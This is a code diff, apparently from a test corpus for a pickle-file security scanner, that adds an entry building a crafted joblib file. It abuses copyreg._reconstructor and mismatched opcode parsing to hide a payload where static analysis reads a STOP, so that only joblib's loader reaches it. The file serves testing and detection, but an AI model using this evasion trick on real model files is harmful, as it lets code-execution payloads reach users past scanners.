@@ -354,3 +354,16 @@ def _gzip_zero_padding() -> bytes:
         expect=IMPORT_MODULE)
 def _eof_line_import() -> bytes:
     return b"c" + IMPORT_MODULE.encode() + b"\n"
+
+
+@attack("joblib-wrapper-reconstructor", "wrapper_reconstructor.joblib", "joblib",
+        "NumpyArrayWrapper made by copyreg._reconstructor: joblib's load_build skips the array bytes by "
+        "isinstance(); the VM looked at the callable, read the bytes as a STOP and a BINBYTES hiding the payload")
+def _joblib_wrapper_reconstructor() -> bytes:
+    body = joblib_head()[11:]
+    body = b"ccopyreg\n_reconstructor\n" + body.replace(b"\x93)\x81", b"\x93cbuiltins\nobject\nN\x87R")
+    tail = b"0" + PAYLOAD_BIN + b"."
+    pad = ord(".")  # joblib: pad length byte, padding, 3 * 8 data bytes; the VM: STOP, then BINBYTES over the rest
+    region = bytes([pad]) + b"B" + struct.pack("<I", pad + 24 - 5 + len(tail) - 1)
+    region += b"\0" * (1 + pad + 24 - len(region))
+    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + region + tail
